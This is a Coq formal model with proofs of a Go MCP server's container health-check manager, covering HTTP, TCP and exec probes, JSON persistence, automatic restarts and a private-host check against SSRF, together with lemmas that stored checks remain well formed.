(* ===== verification/Health.v ===== *)
(** * Health checks and automatic restarts (mcp-server-go/health.go)

    The checks of the manager are shared objects: the map holds pointers, the
    watcher keeps pointers to the checks that are due while it probes them
    outside the lock, and an update puts a new object in the map.  The heap is
    therefore explicit.  [runDueChecks] is the watcher's round on its own;
    [act] cuts it at the points where it does not hold the lock, so that
    configuration calls can come in between, and keeps a log of the probes and
    restarts. *)
From S2P Require Import Prelude GoStrings GoValue NetIP Security Nodes Backend.
From Stdlib Require Import Ascii.

Open Scope string_scope.
Open Scope Z_scope.

(** ** Data *)

Definition HealthHTTP : string := "http".
Definition HealthTCP : string := "tcp".
Definition HealthExec : string := "exec".

Record HealthCheck : Type := MkCheck {
  hc_ContainerID : string;
  hc_Type : string;
  hc_IntervalSeconds : Z;
  hc_TimeoutSeconds : Z;
  hc_FailureThreshold : Z;
  hc_Host : string;
  hc_HTTPPath : string;
  hc_HTTPPort : Z;
  hc_HTTPScheme : string;
  hc_TCPPort : Z;
  hc_ExecCommand : string;
  hc_ConsecutiveFailures : Z;
  hc_LastChecked : Z;
  hc_LastStatus : string;
  hc_LastError : string;
  hc_RestartCount : Z;
  hc_Enabled : bool;
  hc_CreatedAt : Z;
}.

Record HealthSummary : Type := MkHealthSummary {
  hs_ContainerID : string; hs_Type : string; hs_Status : string; hs_ConsecutiveFailures : Z;
  hs_FailureThreshold : Z; hs_RestartCount : Z; hs_LastChecked : string; hs_Enabled : bool;
}.

(** A pointer to a check is its address in [heap]; [next_addr] is unused. *)
Record HealthManager : Type := MkHealth {
  checks : gmap string nat;
  heap : gmap nat HealthCheck;
  next_addr : nat;
  hm_files : gmap string HealthCheck;
  hm_running : bool;
  stopCh_closed : bool;
}.

(** The fields the watcher writes. *)
Definition with_state (hc : HealthCheck) (failures checked : Z) (status err : string) (restarts : Z) : HealthCheck :=
  MkCheck (hc_ContainerID hc) (hc_Type hc) (hc_IntervalSeconds hc) (hc_TimeoutSeconds hc) (hc_FailureThreshold hc)
    (hc_Host hc) (hc_HTTPPath hc) (hc_HTTPPort hc) (hc_HTTPScheme hc) (hc_TCPPort hc) (hc_ExecCommand hc)
    failures checked status err restarts (hc_Enabled hc) (hc_CreatedAt hc).

(** The fields [setHealthCheck] fills in. *)
Definition with_limits (hc : HealthCheck) (interval timeout threshold : Z) : HealthCheck :=
  MkCheck (hc_ContainerID hc) (hc_Type hc) interval timeout threshold
    (hc_Host hc) (hc_HTTPPath hc) (hc_HTTPPort hc) (hc_HTTPScheme hc) (hc_TCPPort hc) (hc_ExecCommand hc)
    (hc_ConsecutiveFailures hc) (hc_LastChecked hc) (hc_LastStatus hc) (hc_LastError hc) (hc_RestartCount hc)
    (hc_Enabled hc) (hc_CreatedAt hc).

Definition with_target (hc : HealthCheck) (host path scheme : string) : HealthCheck :=
  MkCheck (hc_ContainerID hc) (hc_Type hc) (hc_IntervalSeconds hc) (hc_TimeoutSeconds hc) (hc_FailureThreshold hc)
    host path (hc_HTTPPort hc) scheme (hc_TCPPort hc) (hc_ExecCommand hc)
    (hc_ConsecutiveFailures hc) (hc_LastChecked hc) (hc_LastStatus hc) (hc_LastError hc) (hc_RestartCount hc)
    (hc_Enabled hc) (hc_CreatedAt hc).

Definition enabled_at (hc : HealthCheck) (created : Z) : HealthCheck :=
  MkCheck (hc_ContainerID hc) (hc_Type hc) (hc_IntervalSeconds hc) (hc_TimeoutSeconds hc) (hc_FailureThreshold hc)
    (hc_Host hc) (hc_HTTPPath hc) (hc_HTTPPort hc) (hc_HTTPScheme hc) (hc_TCPPort hc) (hc_ExecCommand hc)
    (hc_ConsecutiveFailures hc) (hc_LastChecked hc) "unknown" (hc_LastError hc) (hc_RestartCount hc)
    true created.

Definition put_heap (hm : HealthManager) (l : nat) (hc : HealthCheck) : HealthManager :=
  MkHealth (checks hm) (<[l := hc]> (heap hm)) (next_addr hm) (hm_files hm) (hm_running hm) (stopCh_closed hm).

(** [hm.checks[hc.ContainerID] = hc] for a new object. *)
Definition alloc (hm : HealthManager) (hc : HealthCheck) : HealthManager :=
  MkHealth (<[hc_ContainerID hc := next_addr hm]> (checks hm)) (<[next_addr hm := hc]> (heap hm)) (S (next_addr hm))
    (hm_files hm) (hm_running hm) (stopCh_closed hm).

Definition get_check (hm : HealthManager) (id : string) : option HealthCheck :=
  checks hm !! id ≫= fun l => heap hm !! l.

(** ** Persistence *)

Definition checkFilePath (id : string) : string := str_map sanitize_byte id +:+ ".json".

Definition check_file_le (p q : string * HealthCheck) : Prop := String.le p.1 q.1.

#[global] Instance check_file_le_dec p q : Decision (check_file_le p q).
Proof. unfold check_file_le. apply _. Defined.

(** The files that decode to a check, by name: [os.ReadDir] lists by name. *)
Definition loadFromDisk (hm : HealthManager) : HealthManager :=
  foldl (fun hm p => if HasSuffix p.1 ".json" then alloc hm p.2 else hm) hm
    (merge_sort check_file_le (map_to_list (hm_files hm))).

Definition newHealthManager (d : gmap string HealthCheck) : HealthManager :=
  loadFromDisk (MkHealth ∅ ∅ 0 d false false).

Definition set_files (hm : HealthManager) (d : gmap string HealthCheck) : HealthManager :=
  MkHealth (checks hm) (heap hm) (next_addr hm) d (hm_running hm) (stopCh_closed hm).

Definition saveCheck (hm : HealthManager) (hc : HealthCheck) (w : save_outcome) : res unit * HealthManager :=
  let path := checkFilePath (hc_ContainerID hc) in
  match w with
  | Saved => (Ok tt, set_files hm (<[path := hc]> (hm_files hm)))
  | SaveRefused m => (Err m, hm)
  | SaveCut m => (Err m, set_files hm (delete path (hm_files hm)))
  end.

Definition deleteCheckFile (hm : HealthManager) (id : string) : HealthManager :=
  set_files hm (delete (checkFilePath id) (hm_files hm)).

(** ** Configuration calls *)

Section Health.
Context `{GoRuntime}.

Definition private_host_error (host : string) : string :=
  "health probe host '" +:+ host +:+ "' is a private/internal address — blocked (SSRF prevention)".

Definition check_http (hc : HealthCheck) : res HealthCheck :=
  if hc_Type hc =s HealthHTTP then
    reject (hc_HTTPPort hc <=? 0) || (65535 <? hc_HTTPPort hc) with "http_port must be between 1 and 65535" ;;
    let hc := with_target hc (if hc_Host hc =s "" then "localhost" else hc_Host hc)
                (if hc_HTTPPath hc =s "" then "/" else hc_HTTPPath hc)
                (if hc_HTTPScheme hc =s "" then "http" else hc_HTTPScheme hc) in
    reject isPrivateHost (hc_Host hc) with private_host_error (hc_Host hc) ;;
    Ok hc
  else Ok hc.

Definition check_tcp (hc : HealthCheck) : res HealthCheck :=
  if hc_Type hc =s HealthTCP then
    reject (hc_TCPPort hc <=? 0) || (65535 <? hc_TCPPort hc) with "tcp_port must be between 1 and 65535" ;;
    let hc := with_target hc (if hc_Host hc =s "" then "localhost" else hc_Host hc) (hc_HTTPPath hc) (hc_HTTPScheme hc) in
    reject isPrivateHost (hc_Host hc) with private_host_error (hc_Host hc) ;;
    Ok hc
  else Ok hc.

(** The part of [setHealthCheck] before the lock: the check with its defaults,
    or the error. *)
Definition check_config (hc : HealthCheck) : res HealthCheck :=
  reject hc_ContainerID hc =s "" with "container_id is required" ;;
  reject (hc_Type hc <>s HealthHTTP) && (hc_Type hc <>s HealthTCP) && (hc_Type hc <>s HealthExec) with
    "invalid type: " +:+ hc_Type hc +:+ " (use http, tcp, or exec)" ;;
  let hc := with_limits hc (if hc_IntervalSeconds hc <? 5 then 30 else hc_IntervalSeconds hc)
              (if hc_TimeoutSeconds hc <? 1 then 5 else hc_TimeoutSeconds hc)
              (if hc_FailureThreshold hc <? 1 then 3 else hc_FailureThreshold hc) in
  let! hc := check_http hc in
  let! hc := check_tcp hc in
  reject (hc_Type hc =s HealthExec) && (hc_ExecCommand hc =s "") with "exec_command is required for exec probes" ;;
  Ok hc.

(** The check as the caller sees it afterwards, or the error. *)
Definition setHealthCheck (hm : HealthManager) (hc : HealthCheck) (now : Z) (w : save_outcome)
  : res HealthCheck * HealthManager :=
  match check_config hc with
  | Err m => (Err m, hm)
  | Ok hc =>
      let hc := match get_check hm (hc_ContainerID hc) with
                | Some existing =>
                    enabled_at (with_state hc (hc_ConsecutiveFailures existing) (hc_LastChecked existing)
                                  (hc_LastStatus existing) (hc_LastError hc) (hc_RestartCount existing))
                      (hc_CreatedAt existing)
                | None => enabled_at hc now
                end in
      let '(r, hm) := saveCheck (alloc hm hc) hc w in
      (let! _ := r in Ok hc, hm)
  end.

Definition no_check_error (id : string) : string := "no health check found for container " +:+ id.

Definition removeHealthCheck (hm : HealthManager) (id : string) : res unit * HealthManager :=
  match checks hm !! id with
  | None => (Err (no_check_error id), hm)
  | Some _ =>
      (Ok tt, deleteCheckFile (MkHealth (delete id (checks hm)) (heap hm) (next_addr hm) (hm_files hm) (hm_running hm) (stopCh_closed hm)) id)
  end.

Definition summary `{TimeText} (hc : HealthCheck) : HealthSummary :=
  MkHealthSummary (hc_ContainerID hc) (hc_Type hc) (hc_LastStatus hc) (hc_ConsecutiveFailures hc)
    (hc_FailureThreshold hc) (hc_RestartCount hc)
    (if time_is_zero (hc_LastChecked hc) then "" else format_rfc3339 (hc_LastChecked hc)) (hc_Enabled hc).

(** In the order of the map's iteration, [order]. *)
Definition listHealthChecks `{TimeText} (hm : HealthManager) (order : list string) : list HealthSummary :=
  summary <$> omap (get_check hm) order.

Definition getHealthStatus (hm : HealthManager) (id : string) : res HealthCheck :=
  match get_check hm id with
  | None => Err (no_check_error id)
  | Some hc => Ok hc
  end.

(** ** Probes *)

(** The network as one probe finds it: the status code of a GET, or whether a
    connection is accepted, within a time limit. *)
Record Net : Type := MkNet {
  http_get : string -> Z -> res Z;
  dial_tcp : string -> Z -> res unit;
}.

Definition probe_timeout (hc : HealthCheck) : Z :=
  let timeout := wrap64 (hc_TimeoutSeconds hc * second) in
  if timeout <? second then 5 * second else timeout.

(** [None]: healthy; [Some err]: not healthy, for that reason. *)
Definition runHTTPProbe (net : Net) (hc : HealthCheck) : option string :=
  let scheme := if hc_HTTPScheme hc =s "" then "http" else hc_HTTPScheme hc in
  let host := if hc_Host hc =s "" then "localhost" else hc_Host hc in
  let url := scheme +:+ "://" +:+ host +:+ ":" +:+ pretty (hc_HTTPPort hc) +:+ hc_HTTPPath hc in
  match http_get net url (probe_timeout hc) with
  | Err e => Some ("http probe: " +:+ e)
  | Ok status => if (200 <=? status) && (status <? 400) then None else Some ("http probe: status " +:+ pretty status)
  end.

Definition runTCPProbe (net : Net) (hc : HealthCheck) : option string :=
  let host := if hc_Host hc =s "" then "localhost" else hc_Host hc in
  match dial_tcp net (JoinHostPort host (pretty (hc_TCPPort hc))) (probe_timeout hc) with
  | Err e => Some ("tcp probe: " +:+ e)
  | Ok _ => None
  end.

Context {St : Type} `{!ContainerBackend St}.

Definition runExecProbe (s : St) (hc : HealthCheck) : option string * St :=
  let '(r, s) := ExecInSandbox s (hc_ContainerID hc) (hc_ExecCommand hc) (hc_TimeoutSeconds hc) in
  (match r with
   | Err e => Some ("exec probe: " +:+ e)
   | Ok result =>
       let exitCode := toInt (mapGetAny (asMap result) "exitCode") in
       if exitCode =? 0 then None else Some ("exec probe: exit code " +:+ pretty exitCode)
   end, s).

Definition executeProbe (net : Net) (s : St) (hc : HealthCheck) : option string * St :=
  if hc_Type hc =s HealthHTTP then (runHTTPProbe net hc, s)
  else if hc_Type hc =s HealthTCP then (runTCPProbe net hc, s)
  else if hc_Type hc =s HealthExec then runExecProbe s hc
  else (Some ("unknown probe type: " +:+ hc_Type hc), s).

(** ** The watcher *)

Definition is_due (hc : HealthCheck) (now : Z) : bool :=
  hc_Enabled hc &&
  (time_is_zero (hc_LastChecked hc) || (wrap64 (hc_IntervalSeconds hc * second) <=? time_sub now (hc_LastChecked hc))).

(** The pointers [runDueChecks] collects, [order] being the iteration's. *)
Definition due_checks (hm : HealthManager) (now : Z) (order : list string) : list nat :=
  omap (fun id => checks hm !! id ≫= fun l => heap hm !! l ≫= fun hc => if is_due hc now then Some l else None) order.

(** What [runProbe] does under the lock with the outcome of a probe; the
    check, when it is to be restarted. *)
Definition probe_done (hm : HealthManager) (l : nat) (hc : HealthCheck) (outcome : option string) (now : Z)
  (w : save_outcome) : option HealthCheck * HealthManager :=
  match outcome with
  | None =>
      let hc := with_state hc 0 now "healthy" "" (hc_RestartCount hc) in
      (None, (saveCheck (put_heap hm l hc) hc w).2)
  | Some err =>
      let hc := with_state hc (wrap64 (hc_ConsecutiveFailures hc + 1)) now "unhealthy" err (hc_RestartCount hc) in
      let hm := (saveCheck (put_heap hm l hc) hc w).2 in
      (if hc_FailureThreshold hc <=? hc_ConsecutiveFailures hc then Some hc else None, hm)
  end.

(** What [attemptRestart] does under the lock with the backend's answer. *)
Definition restart_done (hm : HealthManager) (id : string) (answer : res value) (w : save_outcome) : HealthManager :=
  match checks hm !! id with
  | None => hm
  | Some l =>
      match heap hm !! l with
      | None => hm
      | Some hc =>
          let hc := match answer with
                    | Err e => with_state hc (hc_ConsecutiveFailures hc) (hc_LastChecked hc) (hc_LastStatus hc)
                                 ("restart failed: " +:+ e) (hc_RestartCount hc)
                    | Ok _ => with_state hc 0 (hc_LastChecked hc) "restarting" "" (wrap64 (hc_RestartCount hc + 1))
                    end in
          (saveCheck (put_heap hm l hc) hc w).2
      end
  end.

Definition attemptRestart (hm : HealthManager) (s : St) (id : string) (w : save_outcome) : HealthManager * St :=
  let '(answer, s) := RestartSandbox s id in (restart_done hm id answer w, s).

(** [w] and [w'] are what becomes of the two writes. *)
Definition runProbe (hm : HealthManager) (s : St) (net : Net) (l : nat) (now : Z) (w w' : save_outcome)
  : HealthManager * St :=
  match heap hm !! l with
  | None => (hm, s)
  | Some hc =>
      let '(outcome, s) := executeProbe net s hc in
      let '(restart, hm) := probe_done hm l hc outcome now w in
      match restart with
      | Some hc => attemptRestart hm s (hc_ContainerID hc) w'
      | None => (hm, s)
      end
  end.

(** What the world does while one check is probed. *)
Record round : Type := MkRound { rd_net : Net; rd_now : Z; rd_save : save_outcome; rd_save' : save_outcome }.

Fixpoint run_probes (hm : HealthManager) (s : St) (due : list nat) (rounds : list round) : HealthManager * St :=
  match due, rounds with
  | l :: due, r :: rounds =>
      let '(hm, s) := runProbe hm s (rd_net r) l (rd_now r) (rd_save r) (rd_save' r) in run_probes hm s due rounds
  | _, _ => (hm, s)
  end.

Definition runDueChecks (hm : HealthManager) (s : St) (now : Z) (order : list string) (rounds : list round)
  : HealthManager * St :=
  run_probes hm s (due_checks hm now order) rounds.

(** ** Tool handlers *)

Definition check_of_args (args : object) : HealthCheck :=
  MkCheck (argString args "container_id") (argString args "type") (argInt args "interval_seconds" 30)
    (argInt args "timeout_seconds" 5) (argInt args "failure_threshold" 3) (argString args "host")
    (argString args "http_path") (argInt args "http_port" 0) (argString args "http_scheme")
    (argInt args "tcp_port" 0) (argString args "exec_command") 0 time_zero "" "" 0 false time_zero.

Definition handleHealthCheckSet (hm : HealthManager) (args : object) (now : Z) (w : save_outcome)
  : tool_result object * HealthManager :=
  if argString args "container_id" =s "" then (errResult "container_id is required", hm)
  else
    let '(r, hm) := setHealthCheck hm (check_of_args args) now w in
    (of_res r (fun hc => [("container_id", VStr (hc_ContainerID hc)); ("type", VStr (hc_Type hc));
                          ("interval_seconds", VInt (hc_IntervalSeconds hc));
                          ("timeout_seconds", VInt (hc_TimeoutSeconds hc));
                          ("failure_threshold", VInt (hc_FailureThreshold hc)); ("status", VStr "configured")]), hm).

Definition handleHealthCheckRemove (hm : HealthManager) (args : object) : tool_result object * HealthManager :=
  let id := argString args "container_id" in
  if id =s "" then (errResult "container_id is required", hm)
  else
    let '(r, hm) := removeHealthCheck hm id in
    (of_res r (fun _ => [("container_id", VStr id); ("status", VStr "removed")]), hm).

Definition handleHealthCheckList `{TimeText} (hm : HealthManager) (order : list string) : tool_result (list HealthSummary) :=
  okResult (listHealthChecks hm order).

Definition handleHealthCheckStatus (hm : HealthManager) (args : object) : tool_result HealthCheck :=
  let id := argString args "container_id" in
  if id =s "" then errResult "container_id is required" else of_res (getHealthStatus hm id) (fun hc => hc).

(** ** The watcher and its clients, interleaved *)

Definition Start (hm : HealthManager) : HealthManager :=
  if hm_running hm then hm
  else MkHealth (checks hm) (heap hm) (next_addr hm) (hm_files hm) true (stopCh_closed hm).

(** [None]: the panic of closing a channel twice. *)
Definition Stop (hm : HealthManager) : option HealthManager :=
  if hm_running hm then
    if stopCh_closed hm then None
    else Some (MkHealth (checks hm) (heap hm) (next_addr hm) (hm_files hm) false true)
  else Some hm.

(** Where the watcher is when it does not hold the lock: about to probe the
    first of the checks left ([WProbe [] ] waits for the next tick), about to
    ask the backend for a restart, or with the backend's answer. *)
Inductive watcher : Type :=
  | WProbe (due : list nat)
  | WRestart (id : string) (threshold : Z) (due : list nat)
  | WAnswer (id : string) (answer : res value) (due : list nat).

Inductive event : Type :=
  | EProbe (id : string) (healthy : bool)
  | ERestart (id : string) (threshold : Z)
  | EAnswer (id : string) (ok : bool).

(** The log is newest first. *)
Record world : Type := MkWorld { w_hm : HealthManager; w_st : St; w_watch : watcher; w_log : list event }.

Inductive action : Type :=
  | Tick (now : Z) (order : list string)
  | Probe (net : Net) (now : Z) (w : save_outcome)
  | AskRestart
  | GotAnswer (w : save_outcome)
  | StartWatch
  | SetCheck (args : object) (now : Z) (w : save_outcome)
  | RemoveCheck (args : object).

(** One action, when it is possible. *)
Definition act (a : action) (x : world) : option world :=
  let hm := w_hm x in
  match a, w_watch x with
  | Tick now order, WProbe [] =>
      if hm_running hm && negb (stopCh_closed hm) && bool_decide (order ≡ₚ elements (dom (checks hm))) then
        Some (MkWorld hm (w_st x) (WProbe (due_checks hm now order)) (w_log x))
      else None
  | Probe net now w, WProbe (l :: due) =>
      match heap hm !! l with
      | None => None
      | Some hc =>
          let '(outcome, s) := executeProbe net (w_st x) hc in
          let '(restart, hm) := probe_done hm l hc outcome now w in
          Some (MkWorld hm s
                  (match restart with
                   | Some hc => WRestart (hc_ContainerID hc) (hc_FailureThreshold hc) due
                   | None => WProbe due
                   end)
                  (EProbe (hc_ContainerID hc) (negb (bool_decide (is_Some outcome))) :: w_log x))
      end
  | AskRestart, WRestart id thr due =>
      let '(answer, s) := RestartSandbox (w_st x) id in
      Some (MkWorld hm s (WAnswer id answer due) (ERestart id thr :: w_log x))
  | GotAnswer w, WAnswer id answer due =>
      Some (MkWorld (restart_done hm id answer w) (w_st x) (WProbe due) (EAnswer id (is_ok answer) :: w_log x))
  | StartWatch, _ => Some (MkWorld (Start hm) (w_st x) (w_watch x) (w_log x))
  | SetCheck args now w, _ => Some (MkWorld (handleHealthCheckSet hm args now w).2 (w_st x) (w_watch x) (w_log x))
  | RemoveCheck args, _ => Some (MkWorld (handleHealthCheckRemove hm args).2 (w_st x) (w_watch x) (w_log x))
  | _, _ => None
  end.

Fixpoint run_actions (acts : list action) (x : world) : option world :=
  match acts with
  | [] => Some x
  | a :: acts => act a x ≫= run_actions acts
  end.

(** The failed probes of a container in a row, since the last healthy one or
    the last restart that succeeded. *)
Fixpoint failures_in_a_row (id : string) (log : list event) : Z :=
  match log with
  | [] => 0
  | EProbe id' healthy :: log =>
      if id' =s id then (if healthy then 0 else 1 + failures_in_a_row id log) else failures_in_a_row id log
  | EAnswer id' ok :: log => if (id' =s id) && ok then 0 else failures_in_a_row id log
  | ERestart _ _ :: log => failures_in_a_row id log
  end.

(** Every restart asked for so far came after at least as many failed probes in
    a row as the check's threshold. *)
Fixpoint restarts_justified (log : list event) : Prop :=
  match log with
  | [] => True
  | ERestart id thr :: log => thr <= failures_in_a_row id log /\ restarts_justified log
  | _ :: log => restarts_justified log
  end.

(** The pointers the watcher still works with, and the containers being looked
    after. *)
Definition pending (wt : watcher) : list nat :=
  match wt with WProbe due | WRestart _ _ due | WAnswer _ _ due => due end.

Definition restarting (wt : watcher) : list string :=
  match wt with WProbe _ => [] | WRestart id _ _ | WAnswer id _ _ => [id] end.

Definition container_of (hm : HealthManager) (l : nat) : option string := hc_ContainerID <$> heap hm !! l.

Definition busy (x : world) : list string :=
  (restarting (w_watch x) ++ omap (container_of (w_hm x)) (pending (w_watch x)))%list.

(** Runs in which a check is not replaced while its container is busy. *)
Inductive quiet_run : world -> world -> Prop :=
  | quiet_refl x : quiet_run x x
  | quiet_act x a y z :
      act a x = Some y ->
      match a with SetCheck args _ _ => argString args "container_id" ∉ busy x | _ => True end ->
      quiet_run y z ->
      quiet_run x z.

End Health.

(** ** Lemmas *)

Create HintDb health.

Section HealthLemmas.
Context `{GoRuntime} {St : Type} `{!ContainerBackend St}.

Lemma wrap64_le z : int_min <= z -> wrap64 z <= z.
Proof.
  unfold wrap64, int_min. intros Hz. pose proof (Z.mod_le (z + 2 ^ 63) (2 ^ 64)). lia.
Qed.

Lemma failures_nonneg id log : 0 <= failures_in_a_row id log.
Proof.
  induction log as [|[id' h|id' thr|id' ok] log IH]; cbn [failures_in_a_row]; [lia| |done|].
  - case_bool_decide; [destruct h; lia|done].
  - case_bool_decide; [destruct ok; cbn; lia|done].
Qed.

Lemma saveCheck_keeps hm hc w :
  checks (saveCheck hm hc w).2 = checks hm /\ heap (saveCheck hm hc w).2 = heap hm /\
  next_addr (saveCheck hm hc w).2 = next_addr hm.
Proof. by destruct w. Qed.

Lemma saveCheck_checks hm hc w : checks (saveCheck hm hc w).2 = checks hm.
Proof. apply saveCheck_keeps. Qed.
Lemma saveCheck_heap hm hc w : heap (saveCheck hm hc w).2 = heap hm.
Proof. apply saveCheck_keeps. Qed.
Lemma saveCheck_next hm hc w : next_addr (saveCheck hm hc w).2 = next_addr hm.
Proof. apply saveCheck_keeps. Qed.
#[local] Hint Rewrite saveCheck_checks saveCheck_heap saveCheck_next : health.

(** *** What a configured check satisfies *)

Definition http_ok (hc : HealthCheck) : Prop :=
  1 <= hc_HTTPPort hc <= 65535 /\ hc_Host hc <> "" /\ isPrivateHost (hc_Host hc) = false.
Definition tcp_ok (hc : HealthCheck) : Prop :=
  1 <= hc_TCPPort hc <= 65535 /\ hc_Host hc <> "" /\ isPrivateHost (hc_Host hc) = false.

Definition well_formed (hc : HealthCheck) : Prop :=
  hc_ContainerID hc <> "" /\ 5 <= hc_IntervalSeconds hc /\ 1 <= hc_TimeoutSeconds hc /\ 1 <= hc_FailureThreshold hc /\
  ((hc_Type hc = HealthHTTP /\ http_ok hc) \/ (hc_Type hc = HealthTCP /\ tcp_ok hc) \/
   (hc_Type hc = HealthExec /\ hc_ExecCommand hc <> "")).

(** Two checks that differ in their target only. *)
Definition retargeted (hc hc' : HealthCheck) : Prop :=
  exists host path scheme, hc' = with_target hc host path scheme.

Lemma retargeted_refl hc : retargeted hc hc.
Proof. exists (hc_Host hc), (hc_HTTPPath hc), (hc_HTTPScheme hc). by destruct hc. Qed.

Lemma check_http_ok hc hc' :
  check_http hc = Ok hc' -> retargeted hc hc' /\ (hc_Type hc = HealthHTTP -> http_ok hc') /\ (hc_Type hc <> HealthHTTP -> hc' = hc).
Proof.
  unfold check_http. case_bool_decide as Ht; [|intros [= <-]; split; [apply retargeted_refl|naive_solver]].
  destruct (_ || _) eqn:Hp; [done|]. destruct (isPrivateHost _) eqn:Hpriv; [done|]. intros [= <-].
  split; [by eexists _, _, _|]. split; [|done]. intros _. split; [cbn; lia|]. split; [|done].
  cbn -[bool_decide]. by case_bool_decide.
Qed.

Lemma check_tcp_ok hc hc' :
  check_tcp hc = Ok hc' -> retargeted hc hc' /\ (hc_Type hc = HealthTCP -> tcp_ok hc') /\ (hc_Type hc <> HealthTCP -> hc' = hc).
Proof.
  unfold check_tcp. case_bool_decide as Ht; [|intros [= <-]; split; [apply retargeted_refl|naive_solver]].
  destruct (_ || _) eqn:Hp; [done|]. destruct (isPrivateHost _) eqn:Hpriv; [done|]. intros [= <-].
  split; [by eexists _, _, _|]. split; [|done]. intros _. split; [cbn; lia|]. split; [|done].
  cbn -[bool_decide]. by case_bool_decide.
Qed.

Lemma check_http_skip hc : hc_Type hc <> HealthHTTP -> check_http hc = Ok hc.
Proof. intros Ht. unfold check_http. by rewrite bool_decide_false. Qed.

Lemma check_tcp_skip hc : hc_Type hc <> HealthTCP -> check_tcp hc = Ok hc.
Proof. intros Ht. unfold check_tcp. by rewrite bool_decide_false. Qed.

Lemma check_http_local hc :
  hc_Type hc = HealthHTTP -> 1 <= hc_HTTPPort hc <= 65535 -> hc_Host hc = "" ->
  check_http hc = Err (private_host_error "localhost").
Proof.
  intros Ht Hp Hh. unfold check_http. rewrite bool_decide_true by done. cbn [with_target hc_Host]. rewrite Hh.
  destruct (Z.leb_spec (hc_HTTPPort hc) 0); [lia|]. by destruct (Z.ltb_spec 65535 (hc_HTTPPort hc)); [lia|].
Qed.

Lemma check_tcp_local hc :
  hc_Type hc = HealthTCP -> 1 <= hc_TCPPort hc <= 65535 -> hc_Host hc = "" ->
  check_tcp hc = Err (private_host_error "localhost").
Proof.
  intros Ht Hp Hh. unfold check_tcp. rewrite bool_decide_true by done. cbn [with_target hc_Host]. rewrite Hh.
  destruct (Z.leb_spec (hc_TCPPort hc) 0); [lia|]. by destruct (Z.ltb_spec 65535 (hc_TCPPort hc)); [lia|].
Qed.

Lemma check_config_ok hc hc' :
  check_config hc = Ok hc' ->
  well_formed hc' /\ hc_ContainerID hc' = hc_ContainerID hc /\ hc_ConsecutiveFailures hc' = hc_ConsecutiveFailures hc.
Proof.
  unfold check_config. case_bool_decide as Hid; [done|]. destruct (_ && _ && _) eqn:Hty; [done|].
  set (h0 := with_limits hc _ _ _).
  intros (h1 & [(a & b & c & ->) [Hhttp Hhttp']]%check_http_ok & (h2 & [(a' & b' & c' & ->) [Htcp Htcp']]%check_tcp_ok & Hex)%rbind_ok)%rbind_ok.
  cbn -[h0 bool_decide HealthHTTP HealthTCP HealthExec] in *.
  revert Hex. destruct ((hc_Type h0 =s HealthExec) && _) eqn:Hx; [done|]. intros [= <-]. split; [|done].
  split; [done|]. split; [cbn; destruct (Z.ltb_spec (hc_IntervalSeconds hc) 5); lia|].
  split; [cbn; destruct (Z.ltb_spec (hc_TimeoutSeconds hc) 1); lia|].
  split; [cbn; destruct (Z.ltb_spec (hc_FailureThreshold hc) 1); lia|].
  destruct (decide (hc_Type hc = HealthHTTP)) as [Ht|Hn1]; [|destruct (decide (hc_Type hc = HealthTCP)) as [Ht|Hn2]].
  - left. split; [done|]. rewrite Htcp'; [by apply Hhttp|]. cbn. by rewrite Ht.
  - right; left. split; [done|]. by apply Htcp.
  - right; right. rewrite !bool_decide_false in Hty by done.
    destruct (decide (hc_Type hc = HealthExec)) as [Ht|Hn3]; [|by rewrite bool_decide_false in Hty].
    split; [done|]. rewrite bool_decide_true in Hx by done. cbn -[bool_decide] in *. by case_bool_decide.
Qed.

(** *** Every stored check is well formed *)

Definition all_ok (hm : HealthManager) : Prop :=
  map_Forall (fun _ hc => well_formed hc) (heap hm) /\ map_Forall (fun _ hc => well_formed hc) (hm_files hm).

Lemma well_formed_state hc f c st e r : well_formed hc -> well_formed (with_state hc f c st e r).
Proof. done. Qed.

Lemma well_formed_enabled hc t : well_formed hc -> well_formed (enabled_at hc t).
Proof. done. Qed.

Lemma all_ok_save hm hc w : all_ok hm -> well_formed hc -> all_ok (saveCheck hm hc w).2.
Proof.
  intros [Hh Hf] Hok. destruct w; [| done |]; (split; [done|]); cbn; [by apply map_Forall_insert_2|by apply map_Forall_delete].
Qed.

Lemma all_ok_put hm l hc : all_ok hm -> well_formed hc -> all_ok (put_heap hm l hc).
Proof. intros [Hh Hf] Hok. split; [|done]. by apply map_Forall_insert_2. Qed.

Lemma all_ok_alloc hm hc : all_ok hm -> well_formed hc -> all_ok (alloc hm hc).
Proof. intros [Hh Hf] Hok. split; [|done]. by apply map_Forall_insert_2. Qed.

Lemma all_ok_set hm hc now w : all_ok hm -> all_ok (setHealthCheck hm hc now w).2.
Proof.
  intros Hok. unfold setHealthCheck. destruct (check_config hc) as [h|m] eqn:Hc; [|done].
  apply check_config_ok in Hc as [Hwf _]. set (h' := match get_check _ _ with Some _ => _ | None => _ end).
  assert (well_formed h') as Hwf' by (unfold h'; by destruct (get_check hm _)).
  pose proof (all_ok_save (alloc hm h') h' w (all_ok_alloc _ _ Hok Hwf') Hwf') as Hs.
  by destruct (saveCheck (alloc hm h') h' w).
Qed.

Lemma all_ok_remove hm id : all_ok hm -> all_ok (removeHealthCheck hm id).2.
Proof.
  intros [Hh Hf]. unfold removeHealthCheck. destruct (checks hm !! id); [|done]. split; [done|].
  by apply map_Forall_delete.
Qed.

Lemma handleSet_state hm args now w :
  (handleHealthCheckSet hm args now w).2 = hm \/
  (handleHealthCheckSet hm args now w).2 = (setHealthCheck hm (check_of_args args) now w).2.
Proof.
  unfold handleHealthCheckSet. case_bool_decide; [by left|right]. by destruct (setHealthCheck _ _ _ _).
Qed.

Lemma handleRemove_state hm args :
  (handleHealthCheckRemove hm args).2 = hm \/
  (handleHealthCheckRemove hm args).2 = (removeHealthCheck hm (argString args "container_id")).2.
Proof.
  unfold handleHealthCheckRemove. case_bool_decide; [by left|right]. by destruct (removeHealthCheck _ _).
Qed.

Lemma all_ok_probe hm l hc o now w : all_ok hm -> well_formed hc -> all_ok (probe_done hm l hc o now w).2.
Proof. intros Hok Hwf. destruct o; cbn -[saveCheck]; apply all_ok_save, well_formed_state, Hwf; by apply all_ok_put. Qed.

Lemma all_ok_restart hm id r w : all_ok hm -> all_ok (restart_done hm id r w).
Proof.
  intros Hok. unfold restart_done. destruct (checks hm !! id) as [l|]; [|done].
  destruct (heap hm !! l) as [hc|] eqn:Hl; [|done]. assert (well_formed hc) as Hwf by by apply (proj1 Hok l).
  destruct r; apply all_ok_save, well_formed_state, Hwf; by apply all_ok_put.
Qed.

Lemma all_ok_start hm : all_ok hm -> all_ok (Start hm).
Proof. unfold Start. by destruct (hm_running hm). Qed.

